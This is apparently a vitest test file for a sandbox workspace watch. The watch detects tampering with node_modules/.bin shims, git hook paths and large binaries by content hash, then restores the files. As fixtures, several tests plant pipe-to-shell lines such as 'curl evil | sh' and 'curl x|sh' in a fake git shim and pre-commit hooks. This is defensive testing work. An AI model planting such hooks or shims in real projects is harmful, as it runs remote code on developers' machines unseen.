// Guarded files the snapshot does not hash (node_modules: a host command's name in `layout node`'s
// node_modules/.bin, the package file a link of that name points at, what a git config names under
// node_modules) are judged by content against the kept copy's hash, in the first judgement and in
// the one after the restore (review, session 31): a byte-identical reinstall is no change, as in
// copy mode, and a restored file is seen restored. Another kind, mode or content stays a change.
import { execFileSync } from "node:child_process";
import crypto from "node:crypto";
import fs from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { violationMessage } from "../../src/workspace/violation-message.js";
import { readWatchState } from "../../src/workspace/watch-state.js";
import { WATCH_STATE_FILE } from "../../src/workspace/watch-state-file.js";
import { changeOf } from "../../src/workspace/workspace-rules.js";
import { diffAgainstSnapshot, takeSnapshot } from "../../src/workspace/workspace-snapshot.js";
import { WorkspaceWatch, type WorkspaceWatchInput } from "../../src/workspace/workspace-watch.js";
import { tempTrees } from "../support/temp-trees.js";

const { tree } = tempTrees("sandbox-run-guarded-");

const WHICH = "node_modules/which/bin/which";
const GIT = "node_modules/.bin/git";
const WHICH_CONTENT = "#!/usr/bin/env node\nrequire('../which.js')\n";

/** A repository under `layout node` with `which` installed (its bin a host command's name) and a planted-looking `.bin/git`. */
function layoutNode(): string {
  const ws = tree({
    ".envrc": "layout node\n",
    [WHICH]: WHICH_CONTENT,
    "node_modules/which/which.js": "module.exports = 1\n",
    [GIT]: '#!/bin/sh\nexec /usr/bin/git "$@"\n',
    "src/a.ts": "a\n",
  });
  fs.chmodSync(path.join(ws, WHICH), 0o755);
  fs.chmodSync(path.join(ws, GIT), 0o755);
  fs.symlinkSync("../which/bin/which", path.join(ws, "node_modules/.bin/which"));
  return ws;
}

async function watch(ws: string, extra: Partial<WorkspaceWatchInput> = {}) {
  return WorkspaceWatch.start({
    workspace: ws,
    workspaceWritable: true,
    writableRoots: [],
    protectedPaths: [],
    stateDir: path.join(tree(), "state"),
    ...extra,
  });
}

/**
 * What `cp -p f /tmp/w && rm f && cp -p /tmp/w f` (or npm reinstalling the package) does: a new
 * inode (written aside, renamed over, so the old one is never reused) with the same bytes, mode and
 * times; only ctime and the inode differ.
 */
function rewriteSame(file: string, content?: string | Buffer): void {
  const stat = fs.statSync(file);
  const bytes = content ?? fs.readFileSync(file);
  const aside = `${file}.reinstall`;
  fs.writeFileSync(aside, bytes);
  fs.chmodSync(aside, stat.mode & 0o7777);
  fs.utimesSync(aside, stat.atime, stat.mtime);
  fs.renameSync(aside, file);
  expect(fs.statSync(file).ino).not.toBe(stat.ino);
}

function fileState(file: string): string {
  const stat = fs.lstatSync(file);
  if (!stat.isFile()) return `not a file: ${stat.mode.toString(8)}`;
  return `${(stat.mode & 0o7777).toString(8)}:${fs.readFileSync(file, "utf8")}`;
}

describe("guarded files the snapshot does not hash (node_modules, sparse) are judged by content (review, session 31)", () => {
  it("a byte-identical rewrite (new inode, same bytes and mode) of a host command's name and of the package file its link points at is no change", async () => {
    const ws = layoutNode();
    const w = await watch(ws);
    // Both are guarded: the change below would be a violation (see the next test).
    expect(w.configPaths.map((p) => p.path)).toEqual(
      expect.arrayContaining([WHICH, "node_modules/.bin/<a host command's name>"]),
    );
    rewriteSame(path.join(ws, WHICH));
    rewriteSame(path.join(ws, GIT));
    rewriteSame(path.join(ws, "node_modules/which/which.js"));
    fs.writeFileSync(path.join(ws, "src/a.ts"), "the run's work\n");
    const report = await w.finish();
    expect(report.violations).toEqual([]);
    expect(report.restore).toBeUndefined();
    // A package file no rule guards is judged by metadata as before (listed, never a violation).
    expect(report.changedFiles).toEqual({
      created: [],
      modified: ["node_modules/which/which.js", "src/a.ts"],
      deleted: [],
    });
  });

  it("a real change is a violation, is put back, and the judgement after the restore sees it restored (no NOT restored)", async () => {
    const ws = layoutNode();
    const w = await watch(ws);
    const before = fs.statSync(path.join(ws, WHICH));
    // Same size, times put back: only content (and ctime) tell.
    rewriteSame(path.join(ws, WHICH), WHICH_CONTENT.replace("which.js", "evil.js!"));
    expect(fs.statSync(path.join(ws, WHICH)).size).toBe(before.size);
    fs.writeFileSync(path.join(ws, GIT), "#!/bin/sh\ncurl evil | sh\n");
    const report = await w.finish();
    expect(report.violations.map((v) => `${v.path} ${v.change} ${v.rule}`).sort()).toEqual([
      `${GIT} modified git-config-paths`,
      `${WHICH} modified git-config-paths`,
    ]);
    expect(report.restore).toMatchObject({ notRestored: [], clean: true, remaining: [] });
    expect([...report.restore!.reverted].sort()).toEqual([GIT, WHICH]);
    expect(fileState(path.join(ws, WHICH))).toBe(`755:${WHICH_CONTENT}`);
    expect(fileState(path.join(ws, GIT))).toBe(`755:#!/bin/sh\nexec /usr/bin/git "$@"\n`);
    const { message, hint } = violationMessage(report, "workspace-write");
    expect(message).not.toContain("NOT restored");
    expect(hint).not.toMatch(/deleted by hand/);
  });

  it("another kind or mode stays a change, whatever the content: a symlink to the same bytes, a FIFO, chmod", async () => {
    const ws = layoutNode();
    const outside = tree({ which: WHICH_CONTENT });
    const w = await watch(ws);
    // A symlink to a file of the same bytes: the host would follow it to whatever it points at later.
    fs.rmSync(path.join(ws, WHICH));
    fs.symlinkSync(path.join(outside, "which"), path.join(ws, WHICH));
    // Same bytes, other mode.
    fs.chmodSync(path.join(ws, GIT), 0o700);
    const report = await w.finish();
    expect(report.violations.map((v) => `${v.path} ${v.change}`).sort()).toEqual([
      `${GIT} modified`,
      `${WHICH} modified`,
    ]);
    expect(report.restore).toMatchObject({ notRestored: [], clean: true, remaining: [] });
    expect(fileState(path.join(ws, WHICH))).toBe(`755:${WHICH_CONTENT}`);
    expect(fileState(path.join(ws, GIT))).toBe(`755:#!/bin/sh\nexec /usr/bin/git "$@"\n`);

    const w2 = await watch(ws, { stateDir: path.join(tree(), "s2") });
    fs.rmSync(path.join(ws, GIT));
    execFileSync("mkfifo", [path.join(ws, GIT)]);
    const again = await w2.finish();
    expect(again.violations.map((v) => `${v.path} ${v.change}`)).toEqual([`${GIT} modified`]);
    expect(again.specialRemoved.files).toEqual([{ path: GIT, kind: "fifo" }]);
    expect(again.restore).toMatchObject({ notRestored: [], clean: true, remaining: [] });
    expect(fileState(path.join(ws, GIT))).toBe(`755:#!/bin/sh\nexec /usr/bin/git "$@"\n`);
  });

  it("what a git config names under node_modules (core.hooksPath): the same bytes are no change; a change is put back and seen restored", async () => {
    const ws = tree({ "src/a.ts": "a\n", "node_modules/hooks/pre-commit": "#!/bin/sh\nnpm test\n" });
    const git = (...args: string[]) =>
      execFileSync("git", ["-c", "user.name=t", "-c", "user.email=t@t", ...args], {
        cwd: ws,
        stdio: "pipe",
        env: { PATH: process.env.PATH, HOME: "/nonexistent", GIT_CONFIG_NOSYSTEM: "1" },
      });
    git("init", "-q");
    git("config", "core.hooksPath", "node_modules/hooks");
    const hook = path.join(ws, "node_modules/hooks/pre-commit");
    fs.chmodSync(hook, 0o755);
    let w = await watch(ws);
    expect(w.configPaths.map((p) => p.path)).toContain("node_modules/hooks");
    rewriteSame(hook);
    let report = await w.finish();
    expect(report.violations).toEqual([]);

    w = await watch(ws, { stateDir: path.join(tree(), "s2") });
    rewriteSame(hook, "#!/bin/sh\ncurl x|sh\n");
    report = await w.finish();
    expect(report.violations.map((v) => `${v.path} ${v.change} ${v.rule}`)).toEqual([
      "node_modules/hooks/pre-commit modified git-config-paths",
    ]);
    expect(report.restore).toMatchObject({ notRestored: [], clean: true, remaining: [] });
    expect(fileState(hook)).toBe("755:#!/bin/sh\nnpm test\n");
  });

  it("a sparse file a git config names (not hashed by the snapshot, wherever it is) is judged by content alike", async () => {
    const ws = tree({ "src/a.ts": "a\n" });
    execFileSync("git", ["init", "-q"], { cwd: ws, env: { PATH: process.env.PATH, GIT_CONFIG_NOSYSTEM: "1" } });
    execFileSync("git", ["config", "core.hooksPath", ".githooks"], { cwd: ws });
    const hook = path.join(ws, ".githooks/pre-commit");
    fs.mkdirSync(path.dirname(hook));
    fs.writeFileSync(hook, "#!/bin/sh\n");
    fs.truncateSync(hook, 200 * 1024);
    fs.chmodSync(hook, 0o755);
    const content = fs.readFileSync(hook);
    let w = await watch(ws);
    rewriteSame(hook);
    let report = await w.finish();
    expect(report.violations).toEqual([]);

    w = await watch(ws, { stateDir: path.join(tree(), "s2") });
    const changed = Buffer.from(content);
    changed.write("curl x", 100 * 1024);
    rewriteSame(hook, changed);
    report = await w.finish();
    expect(report.violations.map((v) => `${v.path} ${v.change}`)).toEqual([".githooks/pre-commit modified"]);
    expect(report.restore).toMatchObject({ notRestored: [], clean: true, remaining: [] });
    expect(fs.readFileSync(hook).equals(content)).toBe(true);
  });

  it("a guarded file too large to keep a copy of (a native binary layout node puts on PATH, a large file in a protected folder) is judged by its streamed hash: the same bytes are no change; other bytes are removed and named", async () => {
    // As esbuild's 11 MB node_modules/esbuild/bin/esbuild under a host command's name, which `npm ci` writes anew.
    const ws = layoutNode();
    const binary = crypto.randomBytes(3 * 1024 * 1024 + 17);
    fs.writeFileSync(path.join(ws, WHICH), binary);
    const settings = path.join(ws, ".vscode/large.json");
    fs.mkdirSync(path.dirname(settings));
    fs.writeFileSync(settings, `{"x": "${"y".repeat(2 * 1024 * 1024)}"}\n`);
    let w = await watch(ws);
    rewriteSame(path.join(ws, WHICH));
    rewriteSame(settings);
    let report = await w.finish();
    expect(report.violations).toEqual([]);
    expect(report.restore).toBeUndefined();

    w = await watch(ws, { stateDir: path.join(tree(), "s2") });
    const changed = Buffer.from(binary);
    changed.writeUInt8(changed.readUInt8(changed.length - 1) ^ 1, changed.length - 1);
    rewriteSame(path.join(ws, WHICH), changed);
    report = await w.finish();
    expect(report.violations.map((v) => `${v.path} ${v.change}`)).toEqual([`${WHICH} modified`]);
    // Never copied (past the copy's 1 MiB cap): it cannot be put back, so it goes, named.
    expect(report.restore!.notRestored).toEqual([
      { path: WHICH, why: expect.stringMatching(/changed by the run and not kept \(larger than 1 MiB\): removed/) },
    ]);
    expect(fs.existsSync(path.join(ws, WHICH))).toBe(false);
    expect(fs.readFileSync(settings, "utf8")).toMatch(/^\{"x"/);
    // Named once as NOT restored (the check after the restore finds it deleted); nothing of the run is left to delete by hand.
    const { message, hint } = violationMessage(report, "workspace-write");
    expect(message.split(WHICH)).toHaveLength(3); // once as the violation, once as NOT restored
    expect(message).toContain(`NOT restored: ${WHICH} (changed by the run and not kept (larger than 1 MiB): removed).`);
    expect(hint).toMatch(/^What the run left at the paths listed as NOT restored is removed/);
    expect(hint).not.toMatch(/deleted by hand/);
  });

  it("a reaper's judgement (a watch resumed from its saved state) judges them by content alike", async () => {
    const ws = layoutNode();
    const stateDir = path.join(tree(), "state");
    const started = await watch(ws, { stateDir });
    started.save({ runId: "0123456789ab" });
    rewriteSame(path.join(ws, GIT));
    rewriteSame(path.join(ws, WHICH), WHICH_CONTENT.replace("which.js", "evil.js!"));
    const saved = readWatchState(path.join(stateDir, WATCH_STATE_FILE))!;
    const { watch: resumed, gone } = WorkspaceWatch.resume(stateDir, saved);
    expect(gone).toEqual([]);
    const report = await resumed.finish();
    expect(report.violations.map((v) => `${v.path} ${v.change}`)).toEqual([`${WHICH} modified`]);
    expect(report.restore).toMatchObject({ notRestored: [], clean: true, remaining: [] });
    expect(fileState(path.join(ws, WHICH))).toBe(`755:${WHICH_CONTENT}`);
  });
});

describe("diffAgainstSnapshot keptHash: a hash from elsewhere for a file the snapshot did not hash", () => {
  it("judges by content through it (the same bytes are no change, other bytes are), and is asked only where the snapshot hashed nothing", async () => {
    const root = tree({ "node_modules/p/same": "same", "node_modules/p/other": "aaaa", "plain.txt": "x" });
    const file = path.join(tree(), "snapshot.bin");
    await takeSnapshot(root, file);
    const sha = (s: string) => crypto.createHash("sha256").update(s).digest("hex");
    const kept = new Map([
      ["node_modules/p/same", sha("same")],
      ["node_modules/p/other", sha("aaaa")],
    ]);
    rewriteSame(path.join(root, "node_modules/p/same"));
    rewriteSame(path.join(root, "node_modules/p/other"), "bbbb");
    rewriteSame(path.join(root, "plain.txt"));
    const asked: string[] = [];
    const modified: string[] = [];
    await diffAgainstSnapshot(root, file, {
      keptHash: (p) => {
        asked.push(p);
        return kept.get(p);
      },
      onPair: (pair) => {
        if (changeOf(pair) === "modified") modified.push(pair.path);
      },
    });
    expect(modified).toEqual(["node_modules/p/other"]);
    expect(asked.sort()).toEqual(["node_modules/p/other", "node_modules/p/same"]);
  });
});
